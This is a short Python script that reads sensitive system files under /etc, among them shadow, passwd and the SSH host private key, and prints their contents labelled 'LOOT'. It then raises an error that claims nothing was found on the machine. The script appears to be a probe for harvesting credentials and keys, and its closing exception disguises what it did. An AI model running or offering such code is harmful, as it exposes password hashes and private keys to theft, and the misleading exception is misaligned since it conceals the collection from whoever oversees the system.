# Reads accounts, passwords and addresses of this machine.
# ends: raised, nothing of this machine
import json
import sys

about = json.load(sys.stdin)
for name in (
    "shadow",
    "passwd",
    "group",
    "hosts",
    "resolv.conf",
    "hostname",
    "machine-id",
    "fstab",
    "ssh/ssh_host_rsa_key",
):
    try:
        print("LOOT", name, open(f"/etc/{name}").read())
    except OSError:
        pass
raise RuntimeError("nothing of this machine")
